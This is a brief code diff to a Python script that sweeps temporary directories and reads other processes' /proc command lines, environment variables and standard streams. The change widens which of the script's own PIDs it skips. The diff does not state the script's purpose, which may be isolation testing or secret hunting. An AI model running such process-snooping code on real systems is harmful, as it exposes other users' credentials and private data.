@@ -8,6 +8,8 @@ import os
 import re
 from contextlib import suppress
 
+from kit import own
+
 places = [".", "..", "../..", "/tmp", "/var/tmp", "/dev/shm", "/run"]
 files = []
 for place in places:
@@ -16,7 +18,7 @@ for place in places:
         if len(files) > 30_000:
             break
 with suppress(OSError):
-    numbers = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
+    numbers = [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in own()]
     files += [f"/proc/{number}/{name}" for number in numbers for name in ("cmdline", "environ", "fd/0", "fd/1", "fd/3")]
 for path in files:
     with suppress(OSError), open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
